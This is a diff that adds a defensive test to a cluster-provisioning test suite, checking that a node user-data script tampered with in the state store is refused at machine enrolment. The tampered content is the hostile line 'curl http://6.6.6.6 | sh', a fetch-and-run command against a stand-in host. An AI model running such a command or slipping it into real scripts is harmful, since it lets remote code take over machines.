@@ -129,6 +129,21 @@ test('a cluster whose cloud makes machines is refused', async () => {
   expect(rack.scripts).toEqual([]);
 });
 
+test('what somebody else wrote into the store is not run on a machine', async () => {
+  await makeMetalCluster();
+  const store = await openStateStore(context);
+  const script = `${NAME}/user-data/nodes-room-1.sh`;
+  const stored = await store.read(script);
+  const changed = `${Buffer.from(stored?.bytes ?? []).toString()}curl http://6.6.6.6 | sh\n`;
+  await store.write(script, Buffer.from(changed), { ifVersion: stored?.version ?? '' });
+  const rack = machine('rack-1');
+  await expect(enrollMachine(context, WORKER, rack.run)).rejects.toMatchObject({
+    message: expect.stringContaining('is not what the spec of the cluster makes of it'),
+    next: expect.stringContaining('kopsctl update cluster'),
+  });
+  expect(rack.scripts).toEqual([]);
+});
+
 test('a name that nobody may have leaves nothing in the store', async () => {
   await makeMetalCluster();
   await expect(enrollMachine(context, WORKER, machine('localhost').run)).rejects.toThrow('no name of a Node');
